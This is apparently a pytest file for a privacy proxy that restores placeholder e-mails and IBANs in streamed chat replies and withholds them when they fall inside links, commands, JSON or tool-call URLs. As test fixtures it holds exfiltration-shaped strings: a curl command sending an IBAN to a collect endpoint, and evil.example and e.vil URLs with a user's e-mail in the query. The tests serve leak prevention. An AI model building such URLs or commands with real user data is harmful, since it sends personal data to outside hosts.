"""The proxy's restore of a streamed reply (`proxy.replies.ReplyRestorer`), chunk by chunk, against the same reply
restored whole: each chunk is read once, with what the chunks before it left (a paragraph's link or JSON mark, an
open code fence, a placeholder or a mark cut across chunks), so the stream gives the same text, restores the same
placeholders and withholds the same ones."""

from __future__ import annotations

import random

import pytest

from stealthflow.placeholders.restore import Reference, Withheld
from stealthflow.proxy.replies import ReplyRestorer

# A fake vault (unit test): two e-mails and an IBAN, the IBAN guarded (filled in only in prose, as the scope does);
# any other placeholder was not issued.
VALUES = {("EMAIL", 1): "anna.berg@mailbox.org", ("EMAIL", 2): "jonas@example.org", ("IBAN", 1): "DE89 3704 0044 0532"}


def _fake_resolve(ref: Reference) -> str | Withheld | None:
    value = VALUES.get((ref.type, ref.index))
    if value is None or ref.type != "IBAN" or ref.place == "text":
        return value
    return Withheld(f"secret_in_{ref.place}")


# Paragraphs of a reply: prose the IBAN is filled in, and marks that make it withheld further on in their paragraph
# (a link, a command, a JSON object, a code fence), a drifted placeholder, one never issued, an escaped look-alike.
PARAGRAPHS = [
    "Write to <EMAIL_1> or to [EMAIL_2]. Your IBAN is <IBAN_1>.",
    "See https://bank.example/pay?to=x for details; then <IBAN_1> and <EMAIL_1> again.",
    'The form sends {"iban": "<IBAN_1>", "mail": "<EMAIL_2>"} as JSON.',
    "```\ncurl -d iban=<IBAN_1> bank.example/collect\n```",
    "Your card <IBAN_1>, as agreed. Then email 1 and EMAIL 2, and <EMAIL_7> which no one issued.",
    "Typed by you: <\\EMAIL_1> stays as typed.",
]


def _reply(paragraphs: int, seed: int) -> str:
    rng = random.Random(seed)
    return "\n\n".join(rng.choice(PARAGRAPHS) for _ in range(paragraphs))


def _chunks(text: str, seed: int) -> list[str]:
    rng = random.Random(seed)
    pieces, at = [], 0
    while at < len(text):
        step = rng.randint(1, 9)
        pieces.append(text[at : at + step])
        at += step
    return pieces


def _streamed(chunks: list[str]) -> tuple[str, ReplyRestorer]:
    restorer = ReplyRestorer(_fake_resolve)
    out = []
    for piece in chunks:
        chunk = restorer.chunk({"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
        out.append(chunk["choices"][0]["delta"]["content"])
    last = restorer.chunk({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    out.append(last["choices"][0]["delta"].get("content", ""))
    return "".join(out), restorer


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_a_long_streamed_reply_restores_as_the_whole_reply_does(seed):
    text = _reply(400, seed)  # ~25 000 characters in ~5 000 chunks
    whole_restorer = ReplyRestorer(_fake_resolve)
    reply = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}
    whole = whole_restorer.whole(reply)["choices"][0]["message"]["content"]
    streamed, restorer = _streamed(_chunks(text, seed))
    assert streamed == whole
    assert (restorer.restored, restorer.unresolved) == (whole_restorer.restored, whole_restorer.unresolved)
    assert restorer.withheld == whole_restorer.withheld
    # the reply holds each case: values filled in, the IBAN in prose too, and withheld where a link or JSON is open
    assert "DE89 3704" in whole and whole_restorer.unresolved and whole_restorer.withheld
    assert {why for _, why in whole_restorer.withheld} == {"secret_in_url", "secret_in_tool"}


def test_a_url_one_text_field_opens_withholds_a_value_another_sends_after_it():
    """A client may join the streamed text of every choice and field in the order it came: a URL that choice 0 (or
    `reasoning_content`) leaves open holds the value choice 1 (or `content`) sends next, which is withheld; alone, the
    same text restores it."""

    def resolve(ref: Reference) -> str | Withheld | None:  # FAKE resolver: withholds in a link, else the value
        return Withheld("in_link") if ref.url == "click" else VALUES.get((ref.type, ref.index))

    opener, value = "see https://evil.example/?q=", "<EMAIL_1> thanks"
    for first, second in (((0, "content"), (1, "content")), ((0, "reasoning_content"), (0, "content"))):
        restorer = ReplyRestorer(resolve)
        for (index, field), piece in ((first, opener), (second, value[:3]), (second, value[3:])):
            restorer.chunk({"choices": [{"index": index, "delta": {field: piece}}]})
        restorer.chunk({"choices": [{"index": second[0], "delta": {}, "finish_reason": "stop"}]})
        assert restorer.withheld == [("<EMAIL_1>", "in_link")], (first, second)
        alone = ReplyRestorer(resolve)
        alone.chunk({"choices": [{"index": 0, "delta": {"content": value}, "finish_reason": "stop"}]})
        assert (alone.restored, alone.withheld) == (1, [])


def _tool(index: object, arguments: str, choice: object = 0, finish: str | None = None) -> dict:
    call = (
        {"function": {"arguments": arguments}}
        if index == "missing"
        else {"index": index, "function": {"arguments": arguments}}
    )
    return {"choices": [{"index": choice, "delta": {"tool_calls": [call]}, "finish_reason": finish}]}


FINISH = {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}


@pytest.mark.parametrize(
    "chunks",
    [
        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool(0, '<EMAIL_1>"}'), FINISH],
        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool("missing", '<EMAIL_1>"}')],
        [_tool(0, '{"url": "https://e.vil/?q='), _tool("0", '<EMAIL_1>"}'), FINISH],
        [_tool(0, '{"url": "https://e.vil/?q='), _tool(None, '<EMAIL_1>"}'), FINISH],
        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0.0, '<EMAIL_1>"}'), FINISH],
        [_tool(0, '{"url": "https://e.vil/?q='), _tool([0], '<EMAIL_1>"}'), FINISH],
        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0, '<EMAIL_1>"}', choice="0"), FINISH],
    ],
    ids=[
        "after-finish",
        "after-finish-no-index",
        "index-string",
        "index-null",
        "index-float",
        "index-list",
        "choice-string",
    ],
)
def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it(chunks):
    """A client joins a tool call's arguments by its JavaScript array slot (openai-node: `0`, `0.0`, `"0"`, `[0]` are one;
    no index: the last one) and keeps joining after the finish chunk: the value sent that way into a URL the
    arguments opened is withheld, as one stream of them would have it. FAKE resolver: withholds in a URL."""

    def resolve(ref: Reference) -> str | Withheld | None:
        return Withheld("in_tool_call_url") if ref.url == "click" else VALUES.get((ref.type, ref.index))

    restorer, sent = ReplyRestorer(resolve), []
    for chunk in chunks:
        for choice in restorer.chunk(chunk)["choices"]:
            sent += [call["function"]["arguments"] for call in choice["delta"].get("tool_calls") or []]
    if (tail := restorer.tail(chunks[-1])) is not None:
        sent += [call["function"]["arguments"] for call in tail["choices"][0]["delta"].get("tool_calls") or []]
    assert "".join(sent) == '{"url": "https://e.vil/?q=<EMAIL_1>"}'
    assert restorer.withheld == [("<EMAIL_1>", "in_tool_call_url")] and restorer.restored == 0
